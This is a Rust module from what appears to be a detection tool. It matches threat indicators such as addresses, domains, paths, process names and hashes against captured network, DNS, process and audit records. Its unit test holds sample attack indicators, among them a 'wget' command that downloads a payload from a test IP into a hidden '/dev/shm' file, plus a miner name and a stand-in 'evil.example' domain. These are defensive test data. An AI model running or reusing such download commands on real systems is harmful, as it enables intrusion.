//! Matching indicators with tables.
//!
//! [`Indicators`] and frames → [`Hits`]: one a value that matched, by table, column, capture and process. Which kind is
//! looked for in which column stands in one table, [`COLUMNS`].

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::net::IpAddr;

use aho_corasick::{AhoCorasick, MatchKind};
use foldhash::fast::FixedState;
use ipnet::IpNet;

use super::read::{Indicator, Indicators, Kind};
use crate::frames::{Frames, View, Wanted};

/// Hits that are kept; what is beyond is counted.
const MAX_HITS: usize = 200_000;

/// How the values of a column are compared.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Look {
    /// An address.
    Address,
    /// Addresses, joined by commas.
    Addresses,
    /// A domain: equal, or below one of the list.
    Domain,
    /// A path: equal; or its last part is a name of the list.
    Path,
    /// A name: equal.
    Name,
    /// `sha256:…`, or the hash alone.
    Hash,
    /// Text that may contain any of them as a whole word: command lines, requests.
    Text,
}

/// Table, column, how it is compared, and the columns of time and of the process's name.
const COLUMNS: &[(&str, &str, Look, &str, &str)] = &[
    ("network", "server_ip", Look::Address, "first", "proc_name"),
    ("network", "client_ip", Look::Address, "first", "proc_name"),
    ("network", "dns_name", Look::Domain, "first", "proc_name"),
    ("network", "path", Look::Path, "first", "proc_name"),
    ("dns", "query", Look::Domain, "time", "proc_name"),
    ("dns", "answer", Look::Address, "time", "proc_name"),
    ("dns", "answer", Look::Domain, "time", "proc_name"),
    ("dns", "server_ip", Look::Address, "time", "proc_name"),
    ("processes", "name", Look::Name, "start", "name"),
    ("processes", "exepath", Look::Path, "start", "name"),
    ("processes", "cmdline", Look::Text, "start", "name"),
    ("execs", "name", Look::Name, "time", "name"),
    ("execs", "exepath", Look::Path, "time", "name"),
    ("execs", "cmdline", Look::Text, "time", "name"),
    ("files", "path", Look::Path, "first", "proc_name"),
    ("containers", "image_digest", Look::Hash, "first", ""),
    ("containers", "image", Look::Text, "first", ""),
    ("captures", "digest", Look::Hash, "first", ""),
    ("k8s_audit", "source_ips", Look::Addresses, "time", ""),
    ("k8s_audit", "uri", Look::Text, "time", ""),
    ("packets", "src_ip", Look::Address, "time", "proc_name"),
    ("packets", "dst_ip", Look::Address, "time", "proc_name"),
];

/// A value that matched.
#[derive(Clone, Debug)]
pub struct Hit {
    /// The indicator.
    pub indicator: Indicator,
    /// Table in which it was found.
    pub table: &'static str,
    /// Column in which it was found.
    pub column: &'static str,
    /// Capture.
    pub capture: String,
    /// The value that matched.
    pub value: String,
    /// Process life, where the row has one.
    pub upid: Option<u64>,
    /// Name of the process.
    pub process: Option<String>,
    /// First time, ns since the epoch.
    pub first: Option<i64>,
    /// Rows that matched.
    pub rows: u64,
}

/// All hits, in the order of time.
#[derive(Clone, Debug, Default)]
pub struct Hits {
    /// The hits.
    pub list: Vec<Hit>,
    /// Hits that were not kept.
    pub left_out: u64,
}

/// The tables that hits are looked for in.
pub fn wanted() -> Wanted {
    let mut tables: Vec<&str> = COLUMNS.iter().map(|(table, ..)| *table).collect();
    tables.dedup();
    Wanted::tables(&tables)
}

/// Looks for indicators in all tables that are there.
pub fn hits(frames: &Frames, indicators: &Indicators) -> Hits {
    let index = Index::new(indicators);
    let mut found: BTreeMap<Key, Row> = BTreeMap::new();
    let mut left_out = 0;
    for &(table, column, look, time, name) in COLUMNS {
        let view = frames.view(table);
        let place = Place { table, column, look, time, name };
        left_out += search(view, place, &index, &mut found);
    }
    let mut list: Vec<Hit> = found
        .into_iter()
        .map(|(key, row)| Hit {
            indicator: indicators.list[key.indicator].clone(),
            table: key.table,
            column: key.column,
            capture: key.capture,
            value: key.value,
            upid: key.upid,
            process: row.process,
            first: row.first,
            rows: row.rows,
        })
        .collect();
    // An exec says the same as the process that it made, and says when.
    let told: BTreeSet<(Indicator, Option<u64>, String)> = list
        .iter()
        .filter(|hit| hit.table == "execs")
        .map(|hit| (hit.indicator.clone(), hit.upid, hit.value.clone()))
        .collect();
    list.retain(|hit| {
        hit.table != "processes" || !told.contains(&(hit.indicator.clone(), hit.upid, hit.value.clone()))
    });
    // Stable: what has the same time stays in the order of keys.
    list.sort_by_key(|hit| hit.first.unwrap_or(i64::MIN));
    Hits { list, left_out }
}

/// What makes a hit another hit.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord)]
struct Key {
    indicator: usize,
    table: &'static str,
    column: &'static str,
    capture: String,
    upid: Option<u64>,
    value: String,
}

struct Row {
    first: Option<i64>,
    process: Option<String>,
    rows: u64,
}

/// A row of [`COLUMNS`].
#[derive(Clone, Copy)]
struct Place {
    table: &'static str,
    column: &'static str,
    look: Look,
    time: &'static str,
    name: &'static str,
}

/// Searches a column; gives the number of hits that found no room.
fn search(view: View<'_>, place: Place, index: &Index<'_>, found: &mut BTreeMap<Key, Row>) -> u64 {
    let values = view.texts(place.column);
    let (captures, upids) = (view.texts("capture"), view.uints("upid"));
    let (times, names) = (view.ints(place.time), view.texts(place.name));
    // Values repeat: each is compared once.
    let mut known: HashMap<&str, Vec<usize>, FixedState> = HashMap::default();
    let mut left_out = 0;
    for (at, value) in values.iter().enumerate() {
        let Some(value) = *value else { continue };
        let matching = known.entry(value).or_insert_with(|| index.matching(value, place.look));
        for indicator in matching.iter().copied() {
            let key = Key {
                indicator,
                table: place.table,
                column: place.column,
                capture: captures[at].unwrap_or_default().to_owned(),
                upid: upids[at],
                value: value.to_owned(),
            };
            if found.len() >= MAX_HITS && !found.contains_key(&key) {
                left_out += 1;
                continue;
            }
            let row = found.entry(key).or_insert(Row { first: None, process: names[at].map(str::to_owned), rows: 0 });
            row.rows += 1;
            row.first = match (row.first, times[at]) {
                (Some(a), Some(b)) => Some(a.min(b)),
                (a, b) => a.or(b),
            };
        }
    }
    left_out
}

/// Indicators, ready to be looked up.
struct Index<'i> {
    exact: HashMap<(Kind, &'i str), usize, FixedState>,
    networks: Vec<(IpNet, usize)>,
    words: Option<AhoCorasick>,
    /// Indicator of each pattern of `words`.
    patterns: Vec<usize>,
}

impl<'i> Index<'i> {
    fn new(indicators: &'i Indicators) -> Self {
        let mut exact = HashMap::default();
        let (mut networks, mut patterns, mut texts) = (Vec::new(), Vec::new(), Vec::new());
        for (at, indicator) in indicators.list.iter().enumerate() {
            exact.insert((indicator.kind, indicator.value.as_str()), at);
            match indicator.kind {
                Kind::Network => networks.extend(indicator.value.parse().ok().map(|network| (network, at))),
                // A word as short as a name would be found in every command line; names are compared as names.
                Kind::Name => {}
                _ => {
                    patterns.push(at);
                    texts.push(indicator.value.as_str());
                }
            }
        }
        // Too many for an automaton: command lines are not searched then, columns still are.
        let words =
            AhoCorasick::builder().ascii_case_insensitive(true).match_kind(MatchKind::Standard).build(texts).ok();
        Self { exact, networks, words, patterns }
    }

    fn exact(&self, kind: Kind, value: &str) -> Option<usize> {
        self.exact.get(&(kind, value)).copied()
    }

    /// The indicators that a value matches, each once, in their order.
    fn matching(&self, value: &str, look: Look) -> Vec<usize> {
        let mut found = match look {
            Look::Address => self.address(value),
            Look::Addresses => value.split(',').flat_map(|one| self.address(one.trim())).collect(),
            Look::Domain => self.domain(value),
            Look::Path => {
                let name = value.rsplit('/').next().unwrap_or(value);
                self.exact(Kind::Path, value).into_iter().chain(self.exact(Kind::Name, name)).collect()
            }
            Look::Name => self.exact(Kind::Name, value).into_iter().collect(),
            Look::Hash => {
                let hash = value.rsplit(':').next().unwrap_or(value).to_ascii_lowercase();
                self.exact(Kind::Hash, &hash).into_iter().collect()
            }
            Look::Text => self.text(value),
        };
        found.sort_unstable();
        found.dedup();
        found
    }

    fn address(&self, value: &str) -> Vec<usize> {
        let Ok(address) = value.parse::<IpAddr>() else { return Vec::new() };
        let address = address.to_canonical();
        let exact = self.exact(Kind::Address, &address.to_string());
        let networks = self.networks.iter().filter(|(network, _)| network.contains(&address)).map(|(_, at)| *at);
        exact.into_iter().chain(networks).collect()
    }

    fn domain(&self, value: &str) -> Vec<usize> {
        let value = value.trim_end_matches('.').to_ascii_lowercase();
        let mut found = Vec::new();
        let mut rest = value.as_str();
        loop {
            found.extend(self.exact(Kind::Domain, rest));
            match rest.split_once('.') {
                Some((_, parent)) => rest = parent,
                None => return found,
            }
        }
    }

    /// Indicators that stand in a text as whole words: `10.0.0.1` is not in `10.0.0.12`.
    fn text(&self, text: &str) -> Vec<usize> {
        let Some(words) = &self.words else { return Vec::new() };
        let bytes = text.as_bytes();
        let inside = |byte: Option<&u8>| byte.is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
        words
            .find_overlapping_iter(text)
            .filter(|hit| {
                // A domain may have labels in front, but its end is its end: `evil.example` is not in `evil.example.org`.
                let before = hit.start().checked_sub(1).and_then(|at| bytes.get(at));
                let after = bytes.get(hit.end());
                let goes_on = matches!(after, Some(b'.' | b'-')) && inside(bytes.get(hit.end() + 1));
                !inside(before) && !inside(after) && !goes_on
            })
            .map(|hit| self.patterns[hit.pattern().as_usize()])
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn index_of(values: &[(Kind, &str)]) -> Indicators {
        let indicator = |(kind, value): &(Kind, &str)| Indicator {
            kind: *kind,
            value: (*value).to_owned(),
            about: String::new(),
            source: String::new(),
        };
        Indicators { list: values.iter().map(indicator).collect(), ..Indicators::default() }
    }

    #[test]
    fn values_match_as_what_they_are() {
        let indicators = index_of(&[
            (Kind::Address, "203.0.113.66"),
            (Kind::Network, "198.51.100.0/24"),
            (Kind::Domain, "evil.example"),
            (Kind::Path, "/dev/shm/.d"),
            (Kind::Name, "xmrig"),
            (Kind::Url, "http://203.0.113.66/d"),
        ]);
        let index = Index::new(&indicators);
        let cases: &[(&str, Look, &[usize])] = &[
            ("203.0.113.66", Look::Address, &[0]),
            ("::ffff:203.0.113.66", Look::Address, &[0]),
            ("198.51.100.7", Look::Address, &[1]),
            ("10.0.0.1, 203.0.113.66", Look::Addresses, &[0]),
            ("c2.EVIL.example.", Look::Domain, &[2]),
            ("notevil.example", Look::Domain, &[]),
            ("/dev/shm/.d", Look::Path, &[3]),
            ("/opt/xmrig", Look::Path, &[4]),
            ("xmrig-proxy", Look::Name, &[]),
            ("wget -qO /dev/shm/.d http://203.0.113.66/d", Look::Text, &[0, 3, 5]),
            ("ping 203.0.113.660", Look::Text, &[]),
            ("curl http://x.evil.example:8080/", Look::Text, &[2]),
            ("curl http://evil.example.org/", Look::Text, &[]),
        ];
        for (value, look, expected) in cases {
            assert_eq!(index.matching(value, *look), *expected, "{value}");
        }
    }
}
